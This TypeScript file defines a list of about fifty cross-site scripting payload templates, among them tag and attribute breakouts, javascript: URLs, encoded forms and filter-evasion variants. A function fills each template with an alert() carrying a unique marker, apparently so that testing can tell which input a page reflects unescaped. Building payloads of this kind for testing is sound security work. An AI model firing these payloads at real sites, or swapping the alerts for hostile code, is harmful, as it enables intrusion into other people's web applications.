/** Ways of putting a script into text, each for one place where a page could let it out. */
const SHAPES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `--><script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script src=data:,${call}></script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<IMG SRC=x OnErRoR='${call}'>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `\`><img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<math><mtext></p><img src=x onerror=${call}></mtext></math>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<a href="javascript:${call}">go</a>`,
  (call) => `<form action="javascript:${call}"><button>go</button></form>`,
  (call) => `<link rel=stylesheet href="data:text/css,*{background:url(x?${call})}">`,
  (call) => `<style>*{background:url("x?${call}")}</style>`,
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' onmouseover='${call}' x='`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `";${call};//`,
  (call) => `';${call};//`,
  (call) => `\\";${call};//`,
  (call) => `\\u003cscript>${call}</script>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `$\u007b${call}}`,
  (call) => `javascript:${call}`,
  (call) => `<!--<img src="--><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
];

export interface Payload {
  /** Letters and digits that stand in this payload and nowhere else. */
  readonly mark: string;
  readonly text: string;
}

/** So many payloads: the shapes in turn, each with a mark of its own. Run, one shows a dialog with its mark. */
export function payloads(count: number): Payload[] {
  return Array.from({ length: count }, (_, index) => {
    const mark = `xss${String(index).padStart(4, '0')}x`;
    const shape = SHAPES[index % SHAPES.length] ?? String;
    return { mark, text: shape(`alert('${mark}')`) };
  });
}
